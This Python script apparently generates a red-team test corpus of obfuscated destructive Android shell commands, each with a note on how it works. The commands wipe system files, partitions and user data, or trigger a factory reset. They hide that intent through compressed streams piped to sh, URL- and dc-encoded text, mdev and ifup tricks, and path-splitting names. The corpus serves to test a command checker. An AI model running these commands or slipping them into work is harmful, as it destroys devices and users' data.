#!/usr/bin/env python3
"""Round 7, attacker B (programs, files, paths): the corpus as Python data.

Writes corpus.jsonl (and unprovable.jsonl). Binary payloads (gzip/bzip2/xz/lzma/lzop
streams, a zip, an ar archive) are built here and emitted as printf octal escapes, so that
no command text ever passes through a host shell. Nothing here runs a corpus line.
"""
import bz2
import gzip
import io
import json
import lzma
import pathlib
import struct
import zipfile
import zlib

HERE = pathlib.Path(__file__).resolve().parent
ROWS = []


def add(family, cmd, note, shells=None, why=None):
    row = {"family": family, "cmd": cmd, "note": note}
    if shells:
        row["shells"] = shells
        row["shells_why"] = why
    ROWS.append(row)


def octal(b: bytes) -> str:
    """printf-safe text: ASCII letters and digits stay, every other byte is a \\ooo escape."""
    return "".join(chr(x) if (chr(x).isascii() and chr(x).isalnum()) else "\\%03o" % x for x in b)


def pct(s: str) -> str:
    """Percent-encode every byte (what busybox httpd -d decodes)."""
    return "".join("%%%02X" % b for b in s.encode())


def pct_mixed(s: str) -> str:
    """Percent-encode all but lower-case letters at odd positions (looks like a URL fragment)."""
    out = []
    for i, ch in enumerate(s):
        out.append(ch if (ch.islower() and i % 2) else "%%%02X" % ord(ch))
    return "".join(out)


def lzop_stream(data: bytes) -> bytes:
    """A minimal lzop file (version 0x1030, method 1 = LZO1X-1) holding `data` as one stored
    block (uncompressed length == compressed length means stored), no checksums."""
    magic = b"\x89LZO\x00\x0d\x0a\x1a\x0a"
    hdr = struct.pack(">HHHBB", 0x1030, 0x2080, 0x0940, 1, 5)
    hdr += struct.pack(">I", 0)          # flags: no checksums
    hdr += struct.pack(">I", 0o100644)   # mode
    hdr += struct.pack(">I", 0)          # mtime low
    hdr += struct.pack(">I", 0)          # mtime high
    hdr += b"\x00"                        # name length
    hdr += struct.pack(">I", zlib.adler32(hdr) & 0xFFFFFFFF)
    body = struct.pack(">II", len(data), len(data)) + data + struct.pack(">I", 0)
    return magic + hdr + body


def zip_one(name: str, body: str) -> bytes:
    zb = io.BytesIO()
    with zipfile.ZipFile(zb, "w", zipfile.ZIP_STORED) as z:
        zi = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
        z.writestr(zi, body)
    return zb.getvalue()


def ar_one(name: str, body: bytes) -> bytes:
    hdr = "%-16s%-12s%-6s%-6s%-8s%-10s`\n" % (name + "/", "0", "0", "0", "644", len(body))
    pad = b"\n" if len(body) % 2 else b""
    return b"!<arch>\n" + hdr.encode() + body + pad


def dc_number(s: str) -> int:
    return int.from_bytes(s.encode(), "big")


GZ = lambda s: gzip.compress(s.encode(), mtime=0)
BZ = lambda s: bz2.compress(s.encode())
XZ = lambda s: lzma.compress(s.encode(), format=lzma.FORMAT_XZ, check=lzma.CHECK_CRC32)
LZMA = lambda s: lzma.compress(s.encode(), format=lzma.FORMAT_ALONE)

MASS_UNINSTALL = "pm list packages -3 | cut -d: -f2 | xargs -n1 pm uninstall"
FACTORY_RESET = "am broadcast -a android.intent.action.FACTORY_RESET -n android/com.android.server.MasterClearReceiver"

# ---- T1 compress-away: a compressor replaces its input with INPUT.ext and deletes it -------------
add("compress-away", "bzip2 /data/system/packages.xml",
    "busybox bzip2 compresses packages.xml into packages.xml.bz2 and unlinks the original: the package database is gone (no -k). Earlier rounds only had gzip")
add("compress-away", "lzop -U /vendor/build.prop",
    "busybox lzop -U (delete input files) leaves only /vendor/build.prop.lzo: vendor properties are gone and the device does not boot")
add("compress-away", "lzop -1U /data/system/users/0.xml /data/misc/wifi/WifiConfigStore.xml",
    "the U hides in a bundled -1U (fastest level): both system-state files are replaced by .lzo copies and unlinked")
add("compress-away", "find /system/framework -name '*.jar' -exec bzip2 -q {} +",
    "find hands every framework jar to bzip2, which replaces framework.jar with framework.jar.bz2: the zygote cannot load the framework")

# ---- T2 unpack-onto: a decompressor writes NAME without its suffix, over the real file ----------
add("unpack-onto", "cd /vendor && printf 'ro.x=1\\n' | gzip > build.prop.gz && gunzip -f build.prop.gz",
    "gunzip -f writes build.prop (the name minus .gz) over /vendor/build.prop; the victim is only ever named with a .gz suffix")
add("unpack-onto", "cd /data/system && printf '<packages/>\\n' | lzop > packages.xml.lzo && lzop -dfU packages.xml.lzo",
    "lzop -d -f writes packages.xml over the package database (verified content <packages/>): the name appears only as packages.xml.lzo")
add("unpack-onto", "cd /cache/recovery && printf -- '--wipe_data\\n' | gzip > command.gz && gunzip command.gz",
    "gunzip creates /cache/recovery/command (--wipe_data): a factory reset at the next recovery boot, named only as command.gz")
add("unpack-onto", "cd /data/system/users && printf '%s' > 0.xml.lzma && unlzma -f 0.xml.lzma" % octal(LZMA("<users/>\n")),
    "a printf'd lzma stream saved as 0.xml.lzma; unlzma -f writes 0.xml over user 0's record")

# ---- T3 url-decode: busybox httpd -d is a URL decoder whose output goes to sh --------------------
add("url-decode", "busybox httpd -d '%s' | sh" % pct_mixed("rm -rf /vendor"),
    "httpd -d STRING prints STRING URL-decoded; every space, slash and most letters are %XX, decoded into rm -rf /vendor and run")
add("url-decode", "busybox httpd -d '%s' | sh" % pct("cmd testharness enable"),
    "the whole command percent-encoded; httpd -d decodes it to cmd testharness enable (wipes accounts and data)")
add("url-decode", "busybox httpd -d '%s' | sh" % pct_mixed(FACTORY_RESET),
    "httpd -d decodes a FACTORY_RESET broadcast to MasterClearReceiver, run by sh")
add("url-decode", "busybox httpd -d '%s' | sh" % pct(MASS_UNINSTALL),
    "httpd -d decodes a loop that uninstalls every third-party package (set computed on the device)")

# ---- T4 unpack-pipe: a compressed stream made with printf, decompressed into sh ------------------
add("unpack-pipe", "printf '%s' | zcat | sh" % octal(GZ("rm -rf /odm\n")),
    "a gzip stream written as printf octal; zcat inflates it to rm -rf /odm for sh. The command text never appears, even escaped")
add("unpack-pipe", "printf '%s' | bunzip2 | sh" % octal(BZ("rm -rf /product\n")),
    "a bzip2 stream (BZh9...) inflated by bunzip2 into rm -rf /product")
add("unpack-pipe", "printf '%s' | unxz | sh" % octal(XZ(MASS_UNINSTALL + "\n")),
    "an xz stream inflated by unxz into a pm list packages | xargs pm uninstall loop (mass uninstall)")
add("unpack-pipe", "printf '%s' | lzop -dc | sh" % octal(lzop_stream(b"cmd testharness enable\n")),
    "an lzop stream (hand-built stored block) decoded by lzop -dc into cmd testharness enable")

# ---- T5 calc-text: dc prints a number as bytes -----------------------------------------------------
add("calc-text", "busybox dc -e '%d P' | sh" % dc_number("rm -rf /oem /vendor\n"),
    "dc's P prints a number as its big-endian bytes: the 48-digit number is rm -rf /oem /vendor")
add("calc-text", "echo %d P | busybox dc | sh" % dc_number("cmd testharness enable\n"),
    "dc reads the program from stdin; P turns the number into cmd testharness enable")
add("calc-text", "busybox dc -e '%d %d * P' | sh" % (dc_number("pm remove-user 10\n") // 7, 7) if dc_number("pm remove-user 10\n") % 7 == 0 else
    "busybox dc -e '%d %d + P' | sh" % (dc_number("pm remove-user 10\n") - 12345, 12345),
    "dc computes the number (a sum) before P prints it as text: pm remove-user 10 (a secondary user and all its data)")

# ---- T6 member-stdout: an archive member printed to stdout into sh ---------------------------------
add("member-stdout", "printf '%s' > /data/local/tmp/n.zip && unzip -p /data/local/tmp/n.zip notes.txt | sh"
    % octal(zip_one("notes.txt", "cmd testharness enable\n")),
    "busybox unzip -p prints a stored member of a printf'd zip; the member is cmd testharness enable")
add("member-stdout", "printf '%s' > /data/local/tmp/r.a && ar p /data/local/tmp/r.a README | sh"
    % octal(ar_one("README", b"rm -rf /product\n")),
    "busybox ar p prints the member README of a printf'd ar archive into sh: rm -rf /product")
add("member-stdout", "printf '%s' > /data/local/tmp/o.zip && unzip -p /data/local/tmp/o.zip | sh"
    % octal(zip_one("changelog", FACTORY_RESET + "\n")),
    "unzip -p of every member: a FACTORY_RESET broadcast hidden in a zip's stored 'changelog'")

# ---- T7 find-predicate: find selects the victim by a predicate other than -name/-type -------------
add("find-predicate", "find /data -maxdepth 1 -iname 'SYSTEM' -exec rm -rf {} +",
    "-iname is case-insensitive: 'SYSTEM' (no such directory on a case-sensitive fs) matches /data/system")
add("find-predicate", "busybox find / -maxdepth 1 -regex '/v.nd.r' -exec rm -rf {} +",
    "busybox find -regex: the regular expression /v.nd.r matches /vendor (a glob reader sees dots, not wildcards)")
add("find-predicate", "/system/bin/find /dev/block/by-name -lname '*p13' | xargs -I@ dd if=/dev/zero of=@ bs=4096 count=4",
    "toybox find -lname matches a link by its target: the by-name link pointing at mmcblk0p13 (userdata) is zeroed by dd through xargs; 'userdata' is never written")
add("find-predicate", "touch -d 2001-01-01 /data/local/tmp/.ref && find /data -maxdepth 1 -newer /data/local/tmp/.ref ! -name local -exec rm -rf {} +",
    "-newer against a reference file dated 2001 selects every entry of /data (system, misc, app, data, media...) except local")

# ---- T8 grep-select: grep -l / -L picks the files to delete --------------------------------------
add("grep-select", "grep -rl x /data/system | xargs rm -f",
    "grep -rl lists the files that contain an x (every XML file); xargs deletes packages.xml and users/0.xml")
add("grep-select", "grep -rL zzzz /vendor | xargs rm -f",
    "grep -L lists the files that do NOT match: every file in /vendor (build.prop, fstab)")
add("grep-select", "grep -rl -e '' /sdcard/Download /sdcard/Music | xargs rm -f",
    "the empty pattern matches every file: all files of two top-level storage folders are removed")

# ---- T9 pad-file: fallocate appends zeros -----------------------------------------------------------
add("pad-file", "fallocate -l 1048576 /system/framework/framework.jar",
    "fallocate extends framework.jar to 1 MiB of trailing zeros: the zip end record is no longer within the last 64 KiB, so the jar cannot be opened and the device does not boot")
add("pad-file", "busybox fallocate -l 4194304 /data/system/packages.xml",
    "4 MiB of NULs after the XML: the package database no longer parses")
add("pad-file", "fallocate -o 0 -l 2097152 /apex/com.android.art/javalib/core-oj.jar",
    "-o/-l look like a reservation; core-oj.jar (the ART boot class path) is padded past its end record")

# ---- T10 hotplug-unlink: busybox mdev's remove event unlinks /dev/$DEVNAME -----------------------
add("hotplug-unlink", "export ACTION=remove DEVPATH=/devices/virtual/block/ram0 DEVNAME=../data/system/packages.xml; busybox mdev",
    "bare mdev is a hotplug helper: for ACTION=remove it unlinks /dev/$DEVNAME, and DEVNAME=../data/system/packages.xml climbs out of /dev")
add("hotplug-unlink", "env ACTION=remove DEVPATH=/devices/platform/soc/mmc0 DEVNAME=../system/framework/framework.jar busybox mdev",
    "the same remove event through env: framework.jar is unlinked")
add("hotplug-unlink", "ACTION=remove DEVPATH=/block/sda DEVNAME=/system/build.prop busybox mdev",
    "an absolute DEVNAME is used as is: mdev unlinks /system/build.prop")
add("hotplug-unlink", "for f in users/0.xml packages.xml; do ACTION=remove DEVPATH=/block/zram0 DEVNAME=../data/system/$f busybox mdev; done",
    "two remove events: the user record and the package database are unlinked")

# ---- T11 split-name: a name with a space or newline splits into a second path --------------------
add("split-name", "mkdir -p '/data/local/tmp/cache /vendor' && find /data/local/tmp -type d -name vendor | xargs rm -rf",
    "the directory 'cache ' holds a 'vendor'; find prints '/data/local/tmp/cache /vendor', xargs splits at the space and rm -rf gets /vendor")
add("split-name", "mkdir -p \"$(printf '/data/local/tmp/a\\n/data/system')\" && find /data/local/tmp -name system | while read -r d; do rm -rf \"$d\"; done",
    "a directory name ending in a newline: the found path prints as two lines and read takes the second, /data/system")
add("split-name", "mkdir -p '/data/local/tmp/old /data/user_de' && find /data/local/tmp -type d -name user_de -print | xargs rm -rf",
    "same split at a space: rm -rf gets /data/user_de (every app's device-encrypted data)")
add("split-name", "mkdir -p '/data/local/tmp/bak /sdcard/DCIM' && du -a /data/local/tmp | sort -n | awk '{print $NF}' | grep DCIM | xargs rm -rf",
    "awk's last field of a du line whose path has a space is /sdcard/DCIM: the camera folder is deleted")

# ---- T12 proc-cwd: pwdx tells another process's working directory -------------------------------
add("proc-cwd", "rm -rf \"$(pwdx 2345 | cut -d' ' -f2)\"/*",
    "toybox pwdx prints the working directory of pid 2345 (an app sitting in the storage); rm -rf deletes everything in it")
add("proc-cwd", "d=$(pwdx 2345); rm -rf \"${d#*: }/Download\" \"${d#*: }/Pictures\"",
    "pwdx output (PID: DIR) trimmed with ${d#*: }: two top-level storage folders")

# ---- T13 dev-find: the device path comes from find over /dev ------------------------------------
add("dev-find", "dd if=/dev/zero of=\"$(find /dev -name 'm?sc')\" bs=512 count=8",
    "find /dev -name 'm?sc' yields /dev/block/by-name/misc; dd zeroes the bootloader message partition")
add("dev-find", "head -c 65536 /dev/zero > \"$(find /dev/block -name 'v*meta')\"",
    "find computes /dev/block/by-name/vbmeta; a head redirection overwrites verified-boot metadata")

add("dev-find", "cat /data/local/tmp/log.txt > \"$(find /dev/block/by-name -name 'b??t')\"",
    "the boot partition's path is only a find pattern; cat overwrites its header with a log file")

# ---- T14 trunc-size: toybox truncate's size prefixes -----------------------------------------------
add("trunc-size", "/system/bin/truncate -s /4096 /data/system/packages.xml",
    "toybox truncate: a SIZE starting with / rounds down to a multiple (545 bytes -> 0). '/4096' reads like a path")
add("trunc-size", "/system/bin/truncate -s '<0' /vendor/build.prop",
    "toybox truncate: <SIZE caps the length at SIZE, so <0 empties the file")
add("trunc-size", "/system/bin/truncate -s /1M /system/framework/framework.jar /apex/com.android.art/javalib/core-oj.jar",
    "round down to a multiple of 1 MiB: both jars become 0 bytes")

# ---- T15 list-position: the victim is picked by its position in a listing ------------------------
add("list-position", "rm -rf /$(ls / | tail -n 1)",
    "the last entry of / in sort order is vendor (or vendor_dlkm): a system partition chosen by position")
add("list-position", "rm -rf /sdcard/$(ls /sdcard | head -n 1)",
    "the first top-level storage folder in sort order (Alarms/Android on a phone) is deleted")

add("list-position", "ls -d /data/user_de/0/* | head -n 4 | xargs rm -rf",
    "the first four apps in the listing lose their device-encrypted data: a set of apps chosen by position")

# ---- T16 ifup-mapping: busybox ifup mapping script is sh, the interface name is -s ----------------
add("ifup-mapping", "printf 'mapping -s\\n script sh\\n map rm${IFS}-rf${IFS}/vendor\\n' > /data/local/tmp/i && busybox ifup -i /data/local/tmp/i -- -s",
    "an interfaces mapping runs SCRIPT IFACE and writes the map words to its stdin: with IFACE=-s the script is sh -s, so each map word is a shell line (${IFS} instead of spaces)")
add("ifup-mapping", "printf 'mapping -s\\n script /system/bin/sh\\n map cmd${IFS}testharness${IFS}enable\\n' > /data/local/tmp/net && busybox ifup -i /data/local/tmp/net -- -s",
    "the same mapping runs cmd testharness enable")
add("ifup-mapping", "printf 'mapping -s\\n script sh\\n map pm${IFS}list${IFS}packages|cut${IFS}-d:${IFS}-f2|xargs${IFS}-n1${IFS}pm${IFS}clear\\n' > /data/local/tmp/m && busybox ifup -i /data/local/tmp/m -- -s",
    "the mapping's map word is a pipeline that clears every package on the device")


def main():
    seen = set()
    for r in ROWS:
        assert r["cmd"] not in seen, r["cmd"]
        seen.add(r["cmd"])
    (HERE / "corpus.jsonl").write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in ROWS))
    print(f"corpus.jsonl: {len(ROWS)} lines")


if __name__ == "__main__":
    main()
